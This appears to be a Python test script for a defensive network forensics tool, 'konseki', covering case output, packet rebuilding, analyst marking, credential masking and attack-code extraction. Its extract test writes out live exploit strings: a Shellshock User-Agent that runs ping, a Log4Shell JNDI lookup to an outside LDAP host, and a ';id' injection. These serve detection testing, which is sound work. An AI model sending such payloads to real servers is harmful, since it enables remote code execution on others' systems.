#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Checking a verdict by hand: konseki case as JSON, as packets that tshark reads alike, marked by a person; and konseki extract.

usage: case.py BUILD
"""
import collections, itertools, json, os, subprocess, sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), '..', 'support'))
import exchanges, konseki, schema, segments
from tap import Tap

FIELDS = ['ip.src', 'tcp.srcport', 'http.request.method', 'http.request.uri', 'http.response.code', 'http.file_data']
ALSO = ('range/files', 'range/sqli_sqlite', 'range/ssti')  # classes that those have not
NAMES = ('shellshock-ping', 'apache-traversal-shell', 'injected', 'cut', 'log4shell-login')


def messages(path):
    """Every HTTP message as tshark reads it: who sent it, its line, its body without chunks and compression."""
    fields = [word for field in FIELDS for word in ('-e', field)]
    done = subprocess.run(['tshark', '-n', '-r', path, '-Y', 'http.request or http.response', '-T', 'fields', '-E', 'separator=/t',
                           '-E', 'aggregator=;', *fields], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, errors='replace', check=True)
    found = collections.Counter()
    for line in done.stdout.splitlines():
        source, port, methods, targets, code, body = line.split('\t')
        if ';' in methods:  # several requests in one packet
            for method, target in zip(methods.split(';'), targets.split(';')):
                found[source, port, method, target, '', ''] += 1
        else:
            found[source, port, methods, targets, code, body] += 1
    return found


def case(conf, *words):
    return konseki.konseki('case', *words, '-c', conf)


def check_json(tap, conf, records):
    """All of them: shape, and the record unchanged."""
    shown, other = [], []
    for record in records:
        done = case(conf, record['triage']['id'], '--json')
        if done.returncode:
            other.append(done.stderr)
            continue
        shown.append(json.loads(done.stdout))
        if shown[-1]['record'] != record:
            other.append(record['triage']['id'])
    tap.ok(not other, 'case --json holds the record as it was told', other[:3])
    schema.check(tap, 'case', shown, 'case --json', dict(shown[0], parts={}))
    return shown


def check_packets(tap, conf, folder, name, records):
    """What tshark reads in the rebuilt packets it reads in the capture too."""
    whole, odd, count = messages(konseki.capture(name)), [], 0
    for record in records[:6]:
        path = os.path.join(folder, 'case.pcap')
        done = case(conf, record['triage']['id'], '--pcap', path)
        rebuilt = messages(path) if done.returncode == 0 else {}
        count += sum(rebuilt.values())
        if not rebuilt or any(m not in whole for m in rebuilt):
            odd.append((record['http']['url'], [m[:300] for m in rebuilt if m not in whole]))
    tap.ok(count and not odd, f'{name}: tshark reads the same {count} messages in the packets of {len(records[:6])} cases', odd[:2])


def check_mark(tap, conf, folder, record):
    of = record['triage']['id']
    for word in ('false-positive', 'confirmed'):
        done = case(conf, of, '--mark', word)
        shown = json.loads(case(conf, of, '--json').stdout)
        tap.ok(done.returncode == 0 and not done.stdout and shown.get('mark') == word, f'a person marks it {word}', f'{done} {shown.get("mark")}')
    tap.ok(b'marked by a person: confirmed' in case(conf, of).stdout, 'and people are shown it')
    for words, code, what in (([of, '--mark', 'maybe'], 2, 'another word'), ([of, '--json', '--mark', 'confirmed'], 2, 'two wishes'),
                              (['0123456789abcdef-0'], 1, 'a case that is not there'), (['../x'], 1, 'no id'), ([], 2, 'none'),
                              ([of, of], 2, 'two ids'), ([of, '--pcap', folder], 3, 'a folder for a file'), ([of, '--pcap'], 2, 'no file'),
                              (['0123456789abcdef-0', '--mark', 'confirmed'], 1, 'marking what is not there')):
        done = case(conf, *words)
        tap.ok(done.returncode == code and len(done.stderr.splitlines()) == 1 and not done.stdout, f'case: {what}: exit {code} and one line',
               f'{done.returncode} {done.stderr} {done.stdout[:200]}')


def check_text(tap, conf, records):
    """An attacker's bytes reach no terminal as they are."""
    texts = [case(conf, r['triage']['id']).stdout for r in records]
    tap.ok(all(b'attack code 0:' in t and b'http.request_head' in t for t in texts), 'for people: the request and its code')
    tap.ok(not any(b < 9 or 10 < b < 32 or b == 127 for t in texts for b in t), 'no control character of it')


def commands(text, head):
    """The commands that stand below a line of a case, to be typed as they are; they go on over lines that end with | or &&."""
    lines, found = text.splitlines(), []
    for at in [i for i, line in enumerate(lines) if line.endswith(head)]:
        below = list(itertools.takewhile(lambda line: line.startswith('    '), lines[at + 1:]))
        found.append('\n'.join(below))
    return found


def check_again(tap, conf, records):
    """The commands that cases of every class and verdict name do it again, as a shell takes them: the kind of trace that was found comes out."""
    path = os.path.dirname(konseki.KONSEKI) + os.pathsep + os.environ['PATH']
    run = lambda line: subprocess.run(['sh', '-c', line], cwd=konseki.scratch(), env={**os.environ, 'PATH': path}, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    one_of = {(r['triage']['class'], r['triage']['verdict']): r for r in reversed(records)}
    for (which, verdict), record in sorted(one_of.items()):
        triage = record['triage']
        text = case(conf, triage['id']).stdout.decode()
        found = commands(text, '  run it again:')
        done = [run(line) for line in found]
        tap.ok(bool(found) == ('    ran in ' in text) and all(d.returncode == 0 and b'traces of' in d.stdout for d in done),
               f'{which}, {verdict}: {len(found)} commands of a case run', [(line, d.stderr) for line, d in zip(found, done)])
        kinds = {triage['traces'][e['trace']]['kind'] for e in triage['evidence'] if e['found'] and 'trace' in e}
        tap.ok(all(any(kind.encode() in d.stdout for d in done) for kind in kinds), f'{which}, {verdict}: and tell of {sorted(kinds)}')
        tap.ok(all(len(line) <= 100 for line in text.splitlines() if line.startswith('  ') and not line.startswith('    ')), f'{which}, {verdict}: its own lines are no wider than 100 columns')
    whole = commands(case(conf, records[0]['triage']['id']).stdout.decode(), 'as packets, judged again:')
    done = run(whole[0])
    tap.ok(done.returncode == 0 and done.stdout, 'what was kept of a case is judged again as packets', f'{whole} {done.stderr}')


def check_privacy(tap):
    """Cookies and credentials are nobody's business; with mask_outside nothing is but the attack and its evidence."""
    asked = exchanges.request(more='Cookie: sid=topsecret1; lang=de\r\nAuthorization: Basic YW5uOnNlY3JldDI=\r\n')
    path = exchanges.write(konseki.scratch(), 'private', exchanges.kept(segments.Ends('198.51.100.9', '192.0.2.9'), exchanges.exchange(asked)))
    for outside in (False, True):
        conf = konseki.config(konseki.scratch(), more='privacy = { mask_outside = %s; };' % str(outside).lower())
        records, _ = konseki.replay([path], conf)
        of = records[0]['triage']['id']
        for words in ((), ('--json',)):
            shown = case(conf, of, *words).stdout
            name = f'{" ".join(words) or "text"}, outside {outside}'
            tap.ok(b'topsecret1' not in shown and b'YW5uOnNl' not in shown and b'sid=**********' in shown, f'no cookie and no credential ({name})', shown)
            tap.ok((b'network office' in shown) != outside, f'the page around the evidence ({name})', shown)
            tap.ok(b'uid=' in shown and b'localhost%3Bid' in shown, f'attack and evidence are there ({name})', shown)


def check_extract(tap, folder):
    path = os.path.join(folder, 'request')
    with open(path, 'wb') as file:
        file.write(b'POST /cgi-bin/x?a=%3Bid HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :;}; /bin/ping -c1 198.51.100.7\r\n'
                   b'X-Api: ${jndi:ldap://198.51.100.7/a}\r\nContent-Length: 12\r\n\r\nb=1;\xff\xfe;echo')
    done = konseki.konseki('extract', '--json', path)
    found = json.loads(done.stdout)
    tap.ok(done.returncode == 0 and {'shell', 'jndi'} <= {c['language'] for c in found['attack_code']}, 'extract finds both languages', found)
    schema.check(tap, 'extract', [found], 'extract --json', {'attack_code': [{}], 'left': 0})
    with open(path, 'wb') as file:
        file.write(b'GET / HTTP/1.1\r\nHost: a\r\n\r\n')
    done = konseki.konseki('extract', '--json', path)
    tap.equal((done.returncode, json.loads(done.stdout)), (1, {'attack_code': [], 'left': 0}), 'none: exit 1')


def main():
    tap = Tap()
    folder = konseki.scratch()
    conf = konseki.config(folder)
    records = {n: konseki.replay([konseki.capture(n)], conf)[0] for n in NAMES}
    every = [r for n in NAMES for r in records[n]]
    check_json(tap, conf, every)
    try:
        subprocess.run(['tshark', '--version'], stdout=subprocess.DEVNULL, check=True)
        for name in NAMES:
            check_packets(tap, conf, folder, name, records[name])
    except FileNotFoundError:
        tap.skip('the packets of a case', 'tshark is not installed')
    check_mark(tap, conf, folder, every[0])
    check_text(tap, conf, every[::5])
    check_again(tap, conf, every + [r for n in ALSO for r in konseki.replay([konseki.capture(n)], conf)[0]])
    check_extract(tap, folder)
    check_privacy(tap)
    tap.done()


main()
